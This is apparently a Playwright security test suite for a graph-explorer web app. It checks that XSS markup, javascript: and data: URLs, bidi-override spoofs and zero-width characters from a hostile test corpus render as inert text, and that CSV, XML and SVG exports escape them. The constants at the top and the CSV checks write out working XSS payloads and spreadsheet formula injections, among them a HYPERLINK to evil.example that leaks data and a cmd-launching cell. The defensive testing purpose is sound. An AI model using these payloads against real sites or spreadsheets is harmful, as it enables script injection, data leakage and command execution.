// Hostile content is inert: a corpus whose every text field carries markup, script and data URLs,
// bidi controls, zero-width characters, RTL text and emoji (e2e/corpora/hostile) renders as text.
// It is served by the config's second webServer, built from that corpus alone.
// Over 400 lines because it is one subject end to end: every test reads the same hostile corpus.
import { readFile } from 'node:fs/promises';
import { compileCorpus } from '../src/compiler/compileCorpus';
import { readCorpusDir } from '../src/compiler/readCorpusDir';
import { detailsPanel, expect, openExplorer, test } from './fixtures';
import type { Download, Locator, Page } from '@playwright/test';
import type { CompiledGraph } from '../src/schema/compiledGraph';
import { appendEdgeCopy } from './helpers';

test.use({ baseURL: process.env.HOSTILE_BASE_URL ?? 'http://127.0.0.1:4318/' });

const IMG = '<img src=x onerror="window.__pwned=1">';
const SVG = '<svg onload=window.__pwned=1>';
const SCRIPT = '<script>window.__pwned=1</script>';
const JS_URL = 'javascript:window.__pwned=1';
const DATA_URL = 'data:text/html,<script>window.__pwned=1</script>';
const ARABIC = 'وزارة الإعلام';
const HEBREW = 'משרד התקשורת';
const MALLORY = 'Mallory 🕵️‍♀️';
const BIDI_ALIAS = 'evil\u202Egnp.exe\u202C';
const ZERO_WIDTH_DESCRIPTION =
  'Isolates \u2066right\u2069 \u2067left\u2069 \u2068first\u2069; zero\u200Bwidth\u200Cnon\u200Djoiner\uFEFFbom; 👩🏽‍💻 and an unclosed \u202Eoverride';
const CLAIM_LABEL = `">${SCRIPT}`;
const RELATION_LABEL = `${IMG} took part in ${ARABIC}`;
const DISPATCH_TITLE = `${SCRIPT} Hostile dispatch`;
const DISPATCH_URL = `http://example.org/a?q="><script>window.__pwned=1</script>`;
const RTL_TITLE = 'تقرير \u202Ereport 🇺🇸 דו"ח';
const RTL_URL = "https://example.org/דוח?x=' onmouseover='window.__pwned=1";

interface Inertness {
  pwned: string;
  handlerAttributes: string[];
  nonWebLinks: string[];
  embedded: string[];
  inlineScripts: number;
}

/** Whatever could run: a global set by a payload, event-handler attributes, script-capable links. */
async function inertness(page: Page): Promise<Inertness> {
  return page.evaluate(() => {
    const handlerAttributes: string[] = [];
    for (const element of document.querySelectorAll('*')) {
      for (const attribute of element.attributes) {
        if (/^on/i.test(attribute.name))
          handlerAttributes.push(`${element.tagName} ${attribute.name}`);
      }
    }
    return {
      pwned: typeof (window as { __pwned?: unknown }).__pwned,
      handlerAttributes,
      nonWebLinks: [...document.querySelectorAll<HTMLAnchorElement>('a[href]')]
        .filter((link) => link.protocol !== 'http:' && link.protocol !== 'https:')
        .map((link) => link.getAttribute('href') ?? ''),
      embedded: [
        ...document.querySelectorAll('img, iframe, object, embed, frame, video, audio, form'),
      ].map((element) => element.outerHTML.slice(0, 80)),
      inlineScripts: document.querySelectorAll('script:not([src])').length,
    };
  });
}

async function expectInert(page: Page, requestsToX: string[]): Promise<void> {
  expect(await inertness(page)).toEqual({
    pwned: 'undefined',
    handlerAttributes: [],
    nonWebLinks: [],
    embedded: [],
    inlineScripts: 0,
  });
  // `<img src=x>` parsed as markup would fetch ./x even where the CSP stops its onerror.
  expect(requestsToX).toEqual([]);
}

function watchRequestsToX(page: Page): string[] {
  const seen: string[] = [];
  page.on('request', (request) => {
    if (new URL(request.url()).pathname.endsWith('/x')) seen.push(request.url());
  });
  return seen;
}

/** Exact text, bidi and zero-width characters included (toHaveText would trim and fold spaces). */
async function rawText(locator: Locator): Promise<string> {
  return locator.evaluate((element) => element.textContent ?? '');
}

async function pick(page: Page, query: string, label: string): Promise<Locator> {
  const search = page.getByRole('combobox', { name: 'Search entities' });
  await search.fill(query);
  const results = page.getByRole('listbox', { name: 'Search entities results' });
  await expect(results.getByRole('option', { selected: true })).toContainText(label);
  await search.press('Enter');
  const details = detailsPanel(page, label);
  await expect(details).toBeVisible();
  return details;
}

// Once with the production CSP and once with it bypassed, so that escaping alone is shown to
// hold: a payload that reached the DOM as markup would then really run and set window.__pwned.
for (const bypassCSP of [false, true]) {
  test.describe(bypassCSP ? 'with the CSP bypassed' : 'under the production CSP', () => {
    test.use({ bypassCSP });

    test('labels, aliases, descriptions, ids and legends render as text', async ({ page }) => {
      const requestsToX = watchRequestsToX(page);
      await openExplorer(page);
      await expect(page.getByRole('heading', { level: 1 })).toHaveText(
        `${SCRIPT} Hostile corpus 🔥`,
      );
      const list = page.getByRole('listbox', { name: /Entities shown/ });
      await expect(list.getByText(IMG, { exact: true })).toBeVisible();
      await expect(list.getByText(JS_URL, { exact: true })).toBeVisible();
      await expect(list.getByText(CLAIM_LABEL, { exact: true })).toBeVisible();
      await expect(
        page.getByText('<b onmouseover="window.__pwned=1">pwned</b>', { exact: true }),
      ).toBeVisible();

      const img = await pick(page, '<img', IMG);
      await expect(img.getByText(`Also called: ${SVG}`, { exact: true })).toBeVisible();
      await expect(
        img.getByText(`${SCRIPT} <iframe src="${JS_URL}"></iframe> & friends`),
      ).toBeVisible();
      // A Wikidata id that is not Q + digits and any other scheme stay text, never links.
      await expect(
        img.getByText('wikidata: Q1" onmouseover="window.__pwned=1', { exact: true }),
      ).toBeVisible();
      await expect(img.getByText(`homepage: ${JS_URL}`, { exact: true })).toBeVisible();
      await expect(img.getByRole('link')).toHaveCount(0);
      await expect(img.locator('blockquote').first()).toHaveText(
        `“${IMG} announced a meeting with ${ARABIC}”`,
      );
      await expect(img.getByRole('button', { name: ARABIC, exact: true }).first()).toBeVisible();
      await expect(img.getByRole('button', { name: CLAIM_LABEL, exact: true })).toBeVisible();

      // Bidi overrides and zero-width characters reach the page unchanged, as characters.
      const mallory = await pick(page, 'Mallory', MALLORY);
      expect(await rawText(mallory.getByText(/^Also called:/))).toBe(`Also called: ${BIDI_ALIAS}`);
      expect(await rawText(mallory.getByText(/^Isolates/))).toBe(ZERO_WIDTH_DESCRIPTION);

      // RTL labels and aliases are searchable like any other.
      await pick(page, HEBREW, ARABIC);
      const ministry = detailsPanel(page, ARABIC);
      await expect(ministry.getByText(`Also called: ${HEBREW}`, { exact: true })).toBeVisible();

      const formula = await pick(
        page,
        'HYPERLINK',
        '=HYPERLINK("http://evil.example/?leak","click me")',
      );
      await expect(formula.getByText("@SUM(1+1)*cmd|' /C calc'!A0", { exact: true })).toBeVisible();
      await expectInert(page, requestsToX);
    });

    test('claims, relations, quotes and the reader render as text; only http(s) addresses are links', async ({
      page,
    }) => {
      const requestsToX = watchRequestsToX(page);
      await openExplorer(page);
      const img = await pick(page, '<img', IMG);
      await img.getByRole('button', { name: CLAIM_LABEL, exact: true }).click();

      const claim = detailsPanel(page, CLAIM_LABEL);
      await expect(claim).toBeVisible();
      await expect(
        claim.getByText(`${SVG} is our name now.`, { exact: true }).first(),
      ).toBeVisible();
      await expect(claim.getByText(`<a href="${JS_URL}">venue</a>`, { exact: true })).toBeVisible();
      await expect(claim.getByRole('link')).toHaveCount(0);
      await claim.getByRole('button', { name: RELATION_LABEL, exact: true }).click();

      const relation = detailsPanel(page, RELATION_LABEL);
      await expect(relation).toBeVisible();
      await expect(relation.getByText(`${IMG} note`, { exact: true })).toBeVisible();
      await expect(
        relation.getByText(`("on 3 May 2021" in the text ${SCRIPT})`, { exact: true }),
      ).toBeVisible();
      const dispatchQuote = relation.getByRole('listitem').filter({ hasText: DISPATCH_TITLE });
      await expect(dispatchQuote.locator('blockquote')).toHaveText(
        `“${IMG} announced a meeting with ${ARABIC}”`,
      );
      await dispatchQuote.getByRole('button', { name: 'Show in source' }).click();

      const reader = page.getByRole('region', { name: DISPATCH_TITLE, exact: true });
      await expect(reader).toBeVisible();
      await expect(reader.getByText(IMG, { exact: true }).first()).toBeVisible();
      await expect(
        reader.getByText(`"><svg onload=window.__pwned=1>`, { exact: true }),
      ).toBeVisible();
      await expect(reader.getByText(`${JS_URL} — ${DATA_URL}`, { exact: true })).toBeVisible();
      // The address is a link to exactly the http URL the corpus gives, quotes and brackets included.
      const address = reader.getByRole('link', { name: DISPATCH_URL, exact: true });
      await expect(address).toHaveAttribute('href', DISPATCH_URL);
      await expect(address).toHaveAttribute('rel', /noopener/);
      const text = reader.locator('.source-text');
      expect(await rawText(text)).toContain(`Hostile dispatch ${SCRIPT}`);
      expect(await rawText(text)).toContain('evil\u202Egnp.exe\u202C and wrote \u2066right\u2069');
      await expect(reader.getByRole('button', { name: IMG, exact: true }).first()).toBeVisible();
      await expect(reader.getByRole('button', { name: JS_URL, exact: true })).toBeVisible();
      await expect(reader.locator('mark.focused').first()).toBeFocused();

      await page.getByRole('button', { name: `Read “${RTL_TITLE}”`, exact: true }).click();
      const rtl = page.getByRole('region', { name: RTL_TITLE, exact: true });
      await expect(rtl).toBeVisible();
      await expect(rtl.getByRole('link', { name: RTL_URL, exact: true })).toHaveAttribute(
        'href',
        RTL_URL,
      );
      await expect(rtl.getByText('<b onmouseover=window.__pwned=1>bold</b>')).toBeVisible();
      await expect(rtl.getByRole('button', { name: ARABIC, exact: true }).first()).toBeVisible();
      await expectInert(page, requestsToX);
    });
  });
}

async function exportText(page: Page, format: string): Promise<string> {
  const menu = page.locator('details', { has: page.getByText('Export', { exact: true }) });
  if (!(await menu.evaluate((element) => (element as HTMLDetailsElement).open))) {
    await page.getByText('Export', { exact: true }).click();
  }
  const [download]: [Download, void] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('button', { name: `Export ${format}`, exact: true }).click(),
  ]);
  const path = await download.path();
  return readFile(path, 'utf8');
}

test('exports carry the payloads as escaped data', async ({ page }) => {
  await openExplorer(page);

  const json = JSON.parse(await exportText(page, 'JSON (graphology)')) as {
    nodes: { key: string; attributes: { label: string; description: string } }[];
  };
  const labelOf = (key: string) => json.nodes.find((node) => node.key === key)?.attributes.label;
  expect(labelOf('img-group')).toBe(IMG);
  expect(labelOf('mallory')).toBe(MALLORY);

  // XML formats: no payload survives as markup, and an XML parser reads the labels back exactly.
  for (const format of ['GEXF', 'GraphML']) {
    const xml = await exportText(page, format);
    expect(xml, format).not.toMatch(/<(script|img|svg)\b/);
    const labels = await page.evaluate(
      ({ source, graphml }) => {
        const doc = new DOMParser().parseFromString(source, 'application/xml');
        if (doc.querySelector('parsererror')) return ['parse error'];
        return graphml
          ? [...doc.querySelectorAll('node > data[key="node-label"]')].map(
              (data) => data.textContent ?? '',
            )
          : [...doc.querySelectorAll('node')].map((node) => node.getAttribute('label') ?? '');
      },
      { source: xml, graphml: format === 'GraphML' },
    );
    expect(labels, format).toEqual(expect.arrayContaining([IMG, CLAIM_LABEL, JS_URL, ARABIC]));
  }

  // SVG: labels and the caption are text, never markup.
  const svg = await exportText(page, 'SVG image');
  const svgParts = await page.evaluate((source) => {
    const doc = new DOMParser().parseFromString(source, 'image/svg+xml');
    return {
      errors: doc.getElementsByTagName('parsererror').length,
      active: doc.querySelectorAll('script, img, foreignObject, a, iframe').length,
      ids: [...doc.querySelectorAll('#nodes > g')].map((g) => g.getAttribute('data-id')),
    };
  }, svg);
  expect(svgParts).toMatchObject({ errors: 0, active: 0 });
  expect(svgParts.ids).toEqual(expect.arrayContaining(['img-group', 'mallory']));

  // CSV: a cell a spreadsheet would evaluate is defused with a leading quote.
  const csv = await exportText(page, 'CSV nodes');
  expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?leak"",""click me"")"`);
  expect(csv).toContain(`'@SUM(1+1)*cmd|' /C calc'!A0`);
  expect(csv).toContain(`"${IMG.replace(/"/g, '""')}"`);
  expect((await inertness(page)).pwned).toBe('undefined');
});

test('the build ships a strict CSP, cytoscape needs no inline style, and a violation is caught', async ({
  page,
  problems,
}) => {
  const response = await page.goto('./');
  const meta = await page
    .locator('meta[http-equiv="Content-Security-Policy"]')
    .getAttribute('content');
  for (const policy of [meta, response?.headers()['content-security-policy']]) {
    expect(policy).toContain("script-src 'self'");
    expect(policy).toContain("style-src 'self'");
    expect(policy).not.toMatch(/unsafe-inline|unsafe-eval|unsafe-hashes/);
  }
  await expect(page.getByTestId('status-line')).toContainText('Showing');
  // cytoscape finds its stylesheet link by id and so never inserts a <style> element.
  await expect(page.locator('link#__________cytoscape_stylesheet')).toHaveAttribute(
    'rel',
    'stylesheet',
  );
  await expect(page.locator('style')).toHaveCount(0);
  expect(problems).toEqual([]);

  // The suite's watch does catch a violation: an injected inline script is blocked and reported.
  await page.evaluate(() => {
    const script = document.createElement('script');
    script.textContent = 'window.__pwned = 1';
    document.body.append(script);
  });
  await expect
    .poll(() => problems)
    .toContainEqual(expect.stringContaining('CSP violation: script-src'));
  expect((await inertness(page)).pwned).toBe('undefined');
  problems.length = 0;
});

/** Whether `word`, inside `container`, is laid out left to right: first letter left of the last. */
async function readsLeftToRight(container: Locator, word: string): Promise<boolean> {
  return container.evaluate((root, target) => {
    const walker = document.createTreeWalker(root, NodeFilter.SHOW_TEXT);
    for (let node = walker.nextNode(); node; node = walker.nextNode()) {
      const index = (node.textContent ?? '').indexOf(target);
      if (index < 0) continue;
      const range = document.createRange();
      range.setStart(node, index);
      range.setEnd(node, index + 1);
      const first = range.getBoundingClientRect().left;
      range.setStart(node, index + target.length - 1);
      range.setEnd(node, index + target.length);
      return first < range.getBoundingClientRect().left;
    }
    throw new Error(`"${target}" is not in ${root.outerHTML.slice(0, 200)}`);
  }, word);
}

test('an unclosed right-to-left override stays inside its label', async ({ page }) => {
  // The label "Spoof \u202Eevil" never closes its override (U+202E): unisolated, it would reverse
  // the app's own words after it, e.g. " · Person" in the entity list.
  await openExplorer(page, '?sel=unclosed-override&pa=unclosed-override&pb=csv-formula');
  const option = page
    .getByRole('listbox', { name: /Entities shown/ })
    .getByRole('option', { name: /^Spoof/ });
  expect(await readsLeftToRight(option, 'Person')).toBe(true);
  const details = detailsPanel(page, 'Spoof \u202Eevil');
  expect(await readsLeftToRight(details.getByRole('heading', { level: 4 }), 'signed')).toBe(true);
  const finder = page.getByRole('region', { name: 'Connection finder' });
  expect(await readsLeftToRight(finder.getByText(/^From:/), 'To:')).toBe(true);

  const search = page.getByRole('combobox', { name: 'Search entities' });
  await search.fill('Spoof');
  const result = page.getByRole('listbox', { name: 'Search entities results' }).getByRole('option');
  await expect(result).toHaveCount(1);
  expect(await readsLeftToRight(result, 'Person')).toBe(true);
});

/**
 * How each occurrence of `text` inside `container` is set apart: the tag and computed
 * `unicode-bidi` of the element that holds exactly that text, or what else shares its element.
 */
async function isolationOf(container: Locator, text: string): Promise<string[]> {
  return container.evaluate((root, target) => {
    const found: string[] = [];
    const walker = document.createTreeWalker(root, NodeFilter.SHOW_TEXT);
    for (let node = walker.nextNode(); node; node = walker.nextNode()) {
      if (!(node.textContent ?? '').includes(target)) continue;
      const element = node.parentElement;
      if (!element) continue;
      const tag = element.tagName.toLowerCase();
      found.push(
        element.textContent === target
          ? `${tag} ${getComputedStyle(element).unicodeBidi}`
          : `${tag} shared with "${element.textContent ?? ''}"`,
      );
    }
    return found;
  }, text);
}

/**
 * Visible text with right-to-left letters or bidi controls that shares a paragraph with other
 * words without being isolated from them: neither inside an isolating inline element (<bdi>,
 * `unicode-bidi: isolate`) nor alone in a box of its own (a block, a flex item, a button). The
 * reader's text is all from its source, laid out with `unicode-bidi: plaintext`; the
 * screen-reader announcer is not laid out at all.
 */
async function unisolatedBidiText(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const bidi = /[\u0590-\u08ff\ufb1d-\ufdff\ufe70-\ufefc]|\p{Bidi_Control}/u;
    const found: string[] = [];
    const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
    for (let node = walker.nextNode(); node; node = walker.nextNode()) {
      const text = node.textContent ?? '';
      const parent = node.parentElement;
      if (!parent || !bidi.test(text) || !parent.checkVisibility() || parent.closest('.sr-only'))
        continue;
      for (let element: Element | null = parent; element; element = element.parentElement) {
        const style = getComputedStyle(element);
        if (style.display === 'inline' || style.display === 'contents') {
          if (style.unicodeBidi === 'isolate') break;
          continue;
        }
        // Blocks isolate in the browser's own stylesheet, which separates them from their
        // siblings but not their own contents from one another: what else is in this box?
        const box = element.textContent ?? '';
        if (style.unicodeBidi !== 'plaintext' && box.trim() !== text.trim()) {
          found.push(`${element.tagName.toLowerCase()} "${box.trim().slice(0, 80)}"`);
        }
        break;
      }
    }
    return found;
  });
}

test('right-to-left text and bidi controls from the corpus are isolated from the words around them', async ({
  page,
}) => {
  await openExplorer(page, '?sel=mallory');
  // The source filter: the title (an override and Hebrew) before the publisher and date.
  const sources = page.getByRole('group', { name: 'Sources' });
  await expect(sources.getByRole('checkbox', { name: new RegExp(`^${RTL_TITLE}`) })).toBeVisible();
  expect(await isolationOf(sources, RTL_TITLE)).toEqual(['bdi isolate']);
  // The details: an alias with an override after "Also called:".
  const mallory = detailsPanel(page, MALLORY);
  expect(await isolationOf(mallory.getByText(/^Also called:/), BIDI_ALIAS)).toEqual([
    'bdi isolate',
  ]);
  expect(await unisolatedBidiText(page)).toEqual([]);

  // Search results: the alias that matched, inside "· also “…”".
  const search = page.getByRole('combobox', { name: 'Search entities' });
  const results = page.getByRole('listbox', { name: 'Search entities results' });
  for (const [query, label, alias] of [
    ['gnp', MALLORY, BIDI_ALIAS],
    [HEBREW, ARABIC, HEBREW],
  ] as const) {
    await search.fill(query);
    const result = results.getByRole('option', { selected: true });
    await expect(result).toContainText(label);
    expect(await isolationOf(result, alias)).toEqual(['bdi isolate']);
    expect(await isolationOf(result, label)).toEqual(['bdi isolate']);
    expect(await unisolatedBidiText(page)).toEqual([]);
  }
  // Picking one is announced, the label isolated from "Selected".
  await search.press('Enter');
  await expect(page.locator('.sr-only[aria-live="polite"]')).toHaveText(
    `Selected \u2068${ARABIC}\u2069`,
  );
  await search.press('Escape');

  // Everywhere else a label, alias, title, quote or address from the corpus is shown.
  const spoofSigned = detailsPanel(page, /^Spoof \u202Eevil signed/);
  const views: [string, Locator][] = [
    ['?sel=rtl-ministry', detailsPanel(page, ARABIC)],
    ['?sel=img-group-met-ministry', detailsPanel(page, RELATION_LABEL)],
    ['?read=rtl-report', page.getByRole('region', { name: RTL_TITLE, exact: true })],
    [
      '?focus=unclosed-override&pa=unclosed-override&pb=csv-formula',
      page.getByRole('heading', { name: /^Path 1 of/ }),
    ],
    ['?sel=unclosed-override-signed-formula', spoofSigned],
  ];
  for (const [query, shown] of views) {
    await openExplorer(page, query);
    await expect(shown).toBeVisible();
    expect(await unisolatedBidiText(page), query).toEqual([]);
  }
  // A relation named after that label: its own words still read left to right.
  expect(await readsLeftToRight(spoofSigned.getByRole('heading', { level: 2 }), 'signed')).toBe(
    true,
  );
});

test('an id or value from a link with bidi characters does not reorder the notice about it', async ({
  page,
}) => {
  // An unknown id in Arabic, and a value with an unclosed override (which makes it unreadable).
  await openExplorer(page, `?sel=${encodeURIComponent(ARABIC.slice(0, 5))}&hops=%E2%80%AEx`);
  const unreadable = page.getByRole('status').filter({ hasText: 'could not be read' });
  await expect(unreadable.getByRole('listitem')).toHaveText(
    'hops=\u2068\u202Ex\u2069: not a valid value',
  );
  expect(await readsLeftToRight(unreadable.getByRole('listitem'), 'valid')).toBe(true);
  const missing = page.getByRole('status').filter({ hasText: 'no longer in the graph' });
  await expect(missing.getByRole('listitem')).toHaveText(`\u2068${ARABIC.slice(0, 5)}\u2069 (sel)`);
  expect(await readsLeftToRight(missing.getByRole('listitem'), '(sel)')).toBe(true);
});

test('a graph that passes validation but cannot be loaded shows what went wrong, not a blank page', async ({
  page,
}) => {
  // An edge to a node past the last one: the schema checks shapes, the tables refuse the edge.
  await page.route('**/corpus.json', async (route) => {
    const response = await route.fetch();
    const graph = (await response.json()) as CompiledGraph;
    appendEdgeCopy(graph, { key: 'edge-to-nowhere', target: graph.nodes.length });
    await route.fulfill({ response, json: graph });
  });
  await page.goto('./');
  const alert = page.getByRole('alert');
  await expect(alert.getByRole('heading', { level: 1 })).toHaveText('The graph could not be shown');
  await expect(alert.getByRole('listitem')).toContainText(
    'The relation "edge-to-nowhere" refers to entity number',
  );
});

// The ids are indexed lazily, possibly in a render (the timeline's attribution): wherever the
// duplicate is met, the page shows the load error, not the view's "Something went wrong".
test('a relation id that appears twice is refused, though the first drawing does not need the ids', async ({
  page,
}) => {
  await page.route('**/corpus.json', async (route) => {
    const response = await route.fetch();
    const graph = (await response.json()) as CompiledGraph;
    appendEdgeCopy(graph, {});
    await route.fulfill({ response, json: graph });
  });
  await page.goto('./');
  const alert = page.getByRole('alert');
  await expect(alert.getByRole('heading', { level: 1 })).toHaveText('The graph could not be shown');
  await expect(alert.getByRole('listitem')).toContainText('appears twice');
});

test('the compiler refuses javascript: and data: source URLs, so none can reach the page', async () => {
  const files = await readCorpusDir('e2e/corpora/hostile');
  const yaml = String(files['sources/hostile-dispatch.yaml']);
  for (const url of [JS_URL, 'data:text/html,x', 'JaVaScRiPt:alert(1)', 'ftp://example.org/']) {
    const result = compileCorpus({
      ...files,
      'sources/hostile-dispatch.yaml': yaml.replace(/^url: .*$/m, `url: '${url}'`),
    });
    expect(result.graph, url).toBeUndefined();
    expect(result.diagnostics, url).toContainEqual(
      expect.objectContaining({
        file: 'sources/hostile-dispatch.yaml',
        line: 5,
        message: expect.stringContaining('is not an http(s) URL'),
      }),
    );
  }
});
